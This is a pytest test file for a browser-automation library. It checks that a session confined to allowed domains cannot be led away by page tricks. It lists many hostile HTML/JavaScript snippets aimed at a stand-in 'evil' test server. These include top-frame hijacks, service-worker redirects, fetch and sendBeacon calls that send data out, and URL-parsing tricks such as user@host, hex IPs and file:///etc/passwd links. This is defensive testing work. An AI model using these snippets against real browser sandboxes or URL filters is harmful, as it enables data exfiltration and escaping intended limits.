"""A run stays within its domains, whatever path a page takes to leave them: real servers, a real browser."""

from collections.abc import AsyncIterator, Iterator
from contextlib import suppress
from pathlib import Path
from time import monotonic

import pytest
import pytest_asyncio
from playwright.async_api import Browser
from playwright.async_api import Error as PlaywrightError

from deixis.browser.actions import Click, Goto, NewTab
from deixis.browser.domains import Bounds, domain, host, is_local, same_place
from deixis.browser.errors import Blocked, DeixisError, UsageError
from deixis.browser.session import Session, SessionConfig
from deixis.browser.types import Point
from tests.hostile import EVIL, GOOD, Site, Site6

pytestmark = pytest.mark.asyncio(loop_scope="session")
PATIENT = 6.0
"""Seconds for a page to try."""

CLICK = {
    "a link": '<a href="{evil}">go</a>',
    "a link to a new tab": '<a href="{evil}" target="_blank">go</a>',
    "a link to a new tab without opener": '<a href="{evil}" target="_blank" rel="noopener">go</a>',
    "a form by GET": '<form action="{evil}"><input name=a value=1><button>go</button></form>',
    "a form by POST": '<form action="{evil}" method="post"><input name=a value=1><button>go</button></form>',
    "a form to a new tab": '<form action="{evil}" method="post" target="_blank"><button>go</button></form>',
    "a button with its own action": '<form action="/"><button formaction="{evil}">go</button></form>',
    "a redirect 302": '<a href="/302">go</a>',
    "a redirect 307 of a form": '<form action="/307" method="post"><input name=a value=1><button>go</button></form>',
    "a chain of redirects": '<a href="/chain">go</a>',
    "a redirect in a new tab": '<a href="/302" target="_blank">go</a>',
    "a script's link": "<a href=\"javascript:location='{evil}'\">go</a>",
    "window.open": "<button onclick=\"window.open('{evil}')\">go</button>",
    "window.open, then moved": "<button onclick=\"w=window.open('about:blank');w.location='{evil}'\">go</button>",
    "a tab that moves its opener": "<button onclick=\"window.open('/opener')\">go</button>",
    "an image map": '<img usemap=#m width=400 height=200 src="data:,"><map name=m><area shape=default href="{evil}"></map>',
    "a link in SVG": '<svg width=300 height=200><a href="{evil}"><rect width=300 height=200 /></a></svg>',
    "a base address": '<base href="{evil}"><a href="x">go</a>',
    "a user before the host": '<a href="http://{good_host}@{evil_host}/">go</a>',
    "a backslash": '<a href="http://{evil_host}\\@{good_host}/">go</a>',
    "no scheme": '<a href="//{evil_host}/">go</a>',
    "a sibling name": '<a href="http://notgood.localhost:{port}/">go</a>',
    "the name in front": '<a href="http://good.localhost.evil.localhost:{port}/">go</a>',
    "a name of other letters": '<a href="http://göod.localhost:{port}/">go</a>',
    "the parent's name": '<a href="http://localhost:{port}/">go</a>',
    "an address for the name": '<a href="http://127.0.0.1:{port}/">go</a>',
    "an address in one number": '<a href="http://2130706433:{port}/">go</a>',
    "an address in hex": '<a href="http://0x7f.1:{port}/">go</a>',
    "IPv6": '<a href="http://[::1]:{port6}/">go</a>',
    "IPv4 within IPv6": '<a href="http://[::ffff:127.0.0.1]:{port}/">go</a>',
    "a view of the source": '<a href="view-source:{evil}">go</a>',
    "a file": '<a href="file:///etc/hostname">go</a>',
    "a data: page": '<a href="data:text/html,<script>location=`{evil}`</script>">go</a>',
    "a blob: page": "<button onclick=\"location=window.URL.createObjectURL(new Blob([`<script>location='{evil}'</script>`],{{type:'text/html'}}))\">go</button>",
    "a blob: tab": "<button onclick=\"window.open(window.URL.createObjectURL(new Blob([`<script>location='{evil}'</script>`],{{type:'text/html'}})))\">go</button>",
}  # fmt: skip
LOAD = {
    "meta refresh": '<meta http-equiv="refresh" content="0;url={evil}">',
    "a refresh header": "<script>location='/refresh'</script>",
    "meta refresh written by script": "<script>document.write('<meta http-equiv=refresh content=\"0;url={evil}\">')</script>",
    "location": "<script>location='{evil}'</script>",
    "location.replace": "<script>location.replace('{evil}')</script>",
    "location.assign, later": "<script>setTimeout(()=>location.assign('{evil}'),50)</script>",
    "navigation.navigate": "<script>navigation.navigate('{evil}')</script>",
    "a form sent by script": '<form id=f action="{evil}" method=post><input name=a value=b></form><script>f.submit()</script>',
    "a clicked link": '<a id=a href="{evil}"></a><script>a.click()</script>',
    "history, then away": "<script>history.pushState(0,'','/x');location='{evil}'</script>",
    "top from srcdoc": "<iframe srcdoc=\"<script>top.location='{evil}'</script>\"></iframe>",
    "top from a frame of the site": '<iframe src="/top"></iframe>',
    "top from data:": '<iframe src="data:text/html,<script>top.location=`{evil}`</script>"></iframe>',
    "top from blob:": "<script>f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([`<script>top.location='{evil}'<\\/script>`],{{type:'text/html'}}));document.body.append(f)</script>",
    "a frame": '<iframe src="{evil}"></iframe>',
    "a frame that is redirected": '<iframe src="/302"></iframe>',
    "a frame in a frame": '<iframe srcdoc="<iframe src={evil}></iframe>"></iframe>',
    "a frame that a form fills": '<iframe name=i></iframe><form id=f action="{evil}" target=i></form><script>f.submit()</script>',
    "an object": '<object data="{evil}" type="text/html" width=90 height=90></object>',
    "an embed": '<embed src="{evil}" type="text/html" width=90 height=90>',
    "a sandbox that may move the top": "<iframe sandbox=\"allow-scripts allow-top-navigation\" srcdoc=\"<script>top.location='{evil}'</script>\"></iframe>",
    "a service worker": "<script>navigator.serviceWorker.register('/worker.js').then(()=>navigator.serviceWorker.ready).then(()=>location='/answered').catch(()=>location='{evil}')</script>",
    "a service worker, by the browser's own means": "<script>ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker,'/worker.js').then(()=>new Promise(d=>setTimeout(d,600))).then(()=>location='/answered').catch(()=>location='{evil}')</script>",
    "a prerendered page": "<a id=a href='{evil}'></a><script type=speculationrules>{{\"prerender\":[{{\"urls\":[\"{evil}\"],\"eagerness\":\"immediate\"}}]}}</script><script>setTimeout(()=>a.click(),300)</script>",
}  # fmt: skip
PARTS = {
    "a prefetched page": "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{evil}\"],\"eagerness\":\"immediate\"}}]}}</script>",
    "an image": '<img src="{evil}">',
    "a script": '<script src="{evil}"></script>',
    "a style sheet": '<link rel=stylesheet href="{evil}">',
    "a background": "<div style=\"background:url('{evil}');width:9px;height:9px\"></div>",
    "fetch": "<script>fetch('{evil}',{{mode:'no-cors',method:'POST',body:'x'}}).catch(()=>0)</script>",
    "XMLHttpRequest": "<script>x=new XMLHttpRequest();x.open('GET','{evil}');x.send()</script>",
    "a beacon": "<script>navigator.sendBeacon('{evil}','x')</script>",
    "a ping": '<a id=a href="#" ping="{evil}">a</a><script>a.click()</script>',
    "events": "<script>new EventSource('{evil}')</script>",
    "a prefetch": '<link rel=prefetch href="{evil}">',
    "a worker's script": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{evil}',{{mode:'no-cors'}}).catch(()=>0)`])))</script>",
    "a web socket": "<script>new WebSocket('{evil}'.replace('http','ws'))</script>",
    "a web socket of a worker": "<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket('{evil}'.replace('http','ws'))`])))</script>",
    "an import": "<script type=module>import('{evil}').catch(()=>0)</script>",
    "a video": '<video src="{evil}" autoplay></video>',
    "a redirected image": '<img src="/302">',
    "a font": "<style>@font-face{{font-family:x;src:url('{evil}')}}</style><p style='font-family:x'>text</p>",
}  # fmt: skip
SILENT = {
    "a prefetched page",
    "a service worker",
    "a service worker, by the browser's own means",
    "top from data:",
    "a view of the source",
    "a file",
    "a data: page",
    "a web socket of a worker",
}
"""The browser refuses these itself, or the name does not resolve, or workers are off, or the rule is taken out: there is nothing to be told."""
QUICK = {
    "a link",
    "a redirect 307 of a form",
    "window.open",
    "meta refresh",
    "top from srcdoc",
    "a frame",
    "the name in front",
    "IPv6",
}
pick = [pytest.param(kind, name, id=name, marks=() if name in QUICK else pytest.mark.slow)
        for kind, attacks in (("click", CLICK), ("load", LOAD)) for name in attacks]  # fmt: skip


@pytest.fixture(scope="module")
def good() -> Iterator[Site]:
    site = Site()
    yield site
    site.end()


@pytest.fixture(scope="module")
def evil() -> Iterator[Site]:
    site = Site()
    yield site
    site.end()


@pytest.fixture(scope="module")
def evil6() -> Iterator[Site]:
    try:
        site = Site6("::1")
    except OSError:
        site = Site()  # no IPv6 on this machine: the address leads nowhere, and must not be asked for either
    yield site
    site.end()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def bounded(browser: Browser) -> AsyncIterator[Session]:
    async with Session(SessionConfig(width=800, height=600, allow=()), browser) as session:
        yield session


def lay(good: Site, evil: Site, evil6: Site, body: str) -> None:
    """Puts the attack and what it needs on the good site."""
    away = evil.at(EVIL)
    names = {
        "evil": away,
        "port": evil.port,
        "port6": evil6.port,
        "good_host": f"{GOOD}:{good.port}",
        "evil_host": f"{EVIL}:{evil.port}",
    }
    style = "<style>a,button{position:fixed;left:0;top:0;width:300px;height:200px;display:block}</style>"
    good.pages = {
        "/": (200, {}, f"<!doctype html><meta charset=utf-8>{style}<body>{body.format(**names)}</body>"),
        "/302": (302, {"Location": away}, ""),
        "/307": (307, {"Location": away}, ""),
        "/chain": (301, {"Location": "/302"}, ""),
        "/refresh": (200, {"Refresh": f"0;url={away}"}, "wait"),
        "/opener": (200, {}, f"<script>opener.location='{away}'</script>"),
        "/top": (200, {}, f"<script>top.location='{away}'</script>"),
        "/worker.js": (200, {"Content-Type": "text/javascript"}, f"onfetch=e=>e.respondWith(Response.redirect('{away}'));onactivate=()=>clients.claim()"),
    }  # fmt: skip
    good.seen.clear()
    evil.seen.clear()
    evil6.seen.clear()


async def attacked(session: Session, good: Site, click: bool, quiet: bool) -> str:
    """Opens the page, clicks, and looks until something is refused; what the session said."""
    assert session._guard is not None
    session._guard.history.clear()
    said, end = "", monotonic() + (2.5 if quiet else PATIENT)
    try:
        await session.start(good.at(GOOD))
        if click:
            await session.act(Click(target=Point(x=50, y=50)))
        while monotonic() < end and not session._guard.history:
            await session.look()
        await session.look()
    except Blocked as error:
        said = str(error)
    except DeixisError as error:
        said = f"other: {error}"
    return said


async def restored(session: Session) -> None:
    for page in session.tabs[1:]:
        await page.close()
    with suppress(PlaywrightError, DeixisError):
        await session.page.goto("about:blank")
    with suppress(Blocked):
        session._guard.check()  # type: ignore[union-attr]


@pytest.mark.parametrize(("kind", "name"), pick)
async def test_no_way_out(kind: str, name: str, bounded: Session, good: Site, evil: Site, evil6: Site) -> None:
    lay(good, evil, evil6, (CLICK if kind == "click" else LOAD)[name])
    said = await attacked(bounded, good, kind == "click", name in SILENT)
    try:
        assert evil.seen == [] and evil6.seen == [], f"{said!r}: {evil.seen}"
        assert all(host(frame.url) != EVIL for page in bounded.tabs for frame in page.frames)
        if name not in SILENT:
            assert bounded._guard is not None and bounded._guard.history, "nothing was tried"
        if said:
            assert "is not allowed" in said and not said.startswith("other")
    finally:
        await restored(bounded)


async def test_allowed_domains_and_their_subdomains_are_open(
    browser: Browser, good: Site, evil: Site, evil6: Site
) -> None:
    lay(good, evil, evil6, '<a href="{evil}">go</a>')
    async with Session(SessionConfig(allow=(EVIL,)), browser) as session:
        await session.start(good.at(GOOD))
        await session.act(Click(target=Point(x=50, y=50)))
        assert host(session.page.url) == EVIL
        await session.act(Goto(url=evil.at(f"a.{EVIL}")))
        assert host(session.page.url) == f"a.{EVIL}"
        with pytest.raises(Blocked, match="--allow localhost"):
            await session.act(Goto(url=evil.at("localhost")))
        for url in (
            "file:///etc/passwd",
            "chrome://version",
            "javascript:1",
            f"view-source:{good.at(GOOD)}",
            "data:text/html,x",
        ):
            with pytest.raises(Blocked, match="never opened"):
                await session.act(NewTab(url=url))


async def test_a_context_beside_ours_is_left_alone(
    browser: Browser, bounded: Session, good: Site, evil: Site, evil6: Site
) -> None:
    lay(good, evil, evil6, "")
    async with Session(SessionConfig(), browser) as other:
        await other.start(evil.at(EVIL))
        assert host(other.page.url) == EVIL and evil.seen


@pytest.mark.slow
@pytest.mark.parametrize("name", PARTS)
async def test_strict_bounds_hold_every_request(name: str, good: Site, evil: Site, evil6: Site) -> None:
    lay(good, evil, evil6, PARTS[name])
    url = good.at(GOOD)
    async with Session(SessionConfig(width=800, height=600, allow=(), strict_network=True, home=url)) as session:
        said = await attacked(session, good, False, name in SILENT)
        assert said == "" and evil.seen == []  # a part of a page does not end a run
        assert name in SILENT or (session._guard and session._guard.history)


async def test_without_bounds_the_attacks_work(browser: Browser, good: Site, evil: Site, evil6: Site) -> None:
    """So the tests above can fail."""
    lay(good, evil, evil6, LOAD["top from srcdoc"])
    async with Session(SessionConfig(), browser) as session:
        await session.start(good.at(GOOD))
        end = monotonic() + PATIENT
        while monotonic() < end and not evil.seen:
            await session.look()
        assert evil.seen


@pytest.mark.parametrize(
    ("home", "allow", "url", "ok"),
    [
        ("http://a.com/", (), "https://A.com:8080/x", True),
        ("http://a.com/", (), "http://a.com./", True),
        ("http://a.com/", (), "http://b.a.com/", False),
        ("http://a.com/", ("a.com",), "http://b.a.com/", True),
        ("http://a.com/", ("b.com",), "http://xb.com/", False),
        ("http://a.com/", ("b.com",), "http://b.com.evil.com/", False),
        ("http://a.com/", ("*",), "http://anything/", True),
        ("http://a.com/", ("*",), "file:///etc/passwd", False),
        ("http://a.com/", ("*",), "chrome://settings", False),
        ("http://a.com/", (), "blob:http://a.com/1", True),
        ("http://a.com/", (), "blob:http://b.com/1", False),
        ("http://a.com/", (), "http://a.com@b.com/", False),
        ("http://[::1]:80/", (), "http://[0:0:0:0:0:0:0:1]:9/", True),
        ("http://1.2.3.4/", ("2.3.4",), "http://1.2.3.4.evil/", False),
        ("http://bücher.de/", (), "http://xn--bcher-kva.de/", True),
        ("file:///a/b/x.html", (), "file:///a/b/c/y.html", True),
        ("file:///a/b/x.html", (), "file:///a/b/../../etc/passwd", False),
        ("file:///a/b/x.html", (), "file:///a/x.html", False),
        ("file:///a/b/x.html", (), "file://server/a/b/x.html", False),
        ("http://a.com/", (), "http://[", False),
    ],
)  # fmt: skip
async def test_bounds_in_words(home: str, allow: tuple[str, ...], url: str, ok: bool) -> None:
    assert Bounds.of(allow, home).permits(url) is ok


async def test_what_is_no_domain_is_refused() -> None:
    assert (
        domain("https://Example.com:8080/x") == "example.com"
        and domain("*.b.org") == "b.org"
        and domain("::1") == "::1"
    )
    for text in ("", "a b", "http://", "*x"):
        with pytest.raises(UsageError, match="no domain"):
            domain(text)
    assert (
        is_local(Path("/x").as_uri()) and is_local("http://127.9.9.9/") and not is_local("http://127.0.0.1.evil.com/")
    )


@pytest.mark.parametrize(
    ("frame", "bound", "home", "ok"),
    [
        ("https://a.com/login", None, "https://a.com/", True),
        ("http://a.com/login", None, "https://a.com/", False),  # not encrypted where it began so
        ("http://a.com/login", None, "http://a.com/", True),
        ("https://login.a.com/", None, "https://a.com/", False),
        ("https://login.a.com/", "a.com", "https://b.com/", True),
        ("https://a.com.evil.com/", "a.com", "https://a.com/", False),
        ("http://127.0.0.1:1/", None, "http://127.0.0.1:2/", True),
        ("data:text/html,x", None, "https://a.com/", False),
        ("about:blank", None, "https://a.com/", False),
        ("file:///a/x.html", None, "file:///a/y.html", True),
        ("file:///a/x.html", "a.com", "file:///a/y.html", False),
    ],
)
async def test_who_may_have_a_secret(frame: str, bound: str | None, home: str, ok: bool) -> None:
    assert same_place(frame, bound, home) is ok


@pytest.mark.slow
async def test_unfinished_business_does_not_keep_a_session_open(
    browser: Browser, good: Site, evil: Site, evil6: Site
) -> None:
    lay(
        good,
        evil,
        evil6,
        "<script>setInterval(()=>{location='{evil}'},5)</script>".replace("{", "{{")
        .replace("}", "}}")
        .replace("{{evil}}", "{evil}"),
    )
    async with Session(SessionConfig(allow=()), browser) as session:
        with pytest.raises(DeixisError):
            for _ in range(50):
                await session.start(good.at(GOOD))
                await session.look()
    assert evil.seen == []
